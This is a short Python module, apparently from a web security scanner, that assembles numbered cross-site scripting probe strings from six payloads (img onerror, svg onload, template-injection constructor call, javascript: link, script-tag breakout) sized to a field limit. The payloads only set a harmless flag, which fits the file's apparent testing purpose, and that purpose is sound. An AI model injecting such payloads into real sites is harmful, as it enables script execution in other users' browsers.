"""What somebody would write into a text field to run a script in another's browser, and how one finds it again."""

from itertools import cycle, islice

PIECES = (
    "<img src=x onerror=window.__xss=1>",
    '"><svg onload=window.__xss=1>',
    "{{6007*6011}}{{constructor.constructor('window.__xss=1')()}}",
    "[a](javascript:window.__xss=1)",
    "'-window.__xss=1-'",
    "</script><script>window.__xss=1</script>",
)
SHORT = "<img src=x onerror=__xss=1>"


def payload(number: int, limit: int | None) -> str:
    """As many of the pieces as fit, another one first for each number. The number makes it a text of its own."""
    begin, most = f"X{number}X", min(limit or 250, 250)
    text = begin
    for piece in islice(cycle(PIECES), number % len(PIECES), number % len(PIECES) + len(PIECES)):
        if len(text) + len(piece) + 1 <= most:
            text += f" {piece}"
    return text if text != begin else f"{begin} {SHORT}"[:most]
